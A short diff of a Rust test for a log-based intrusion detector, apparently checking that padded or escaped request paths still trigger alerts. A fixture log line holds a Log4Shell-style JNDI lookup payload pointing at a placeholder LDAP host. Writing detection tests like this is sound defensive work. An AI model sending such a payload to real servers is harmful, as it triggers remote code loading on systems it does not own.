@@ -145,7 +145,7 @@ fn padding_and_double_escapes_hide_nothing() {
     ] {
         let mut hub = Hub::new();
         hub.feed(0.0, "web", request("203.0.113.9", &path, 404));
-        assert_eq!(hub.said.len(), 1, "{}", &path[..40]);
+        assert_eq!(hub.said.len(), 1, "{path:.40}");
     }
     let mut hub = Hub::new();
     let text = "203.0.113.9 - - [10/Mar/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"${jndi:ldap://203.0.113.9/a}\" \"Mozilla/5.0\"";
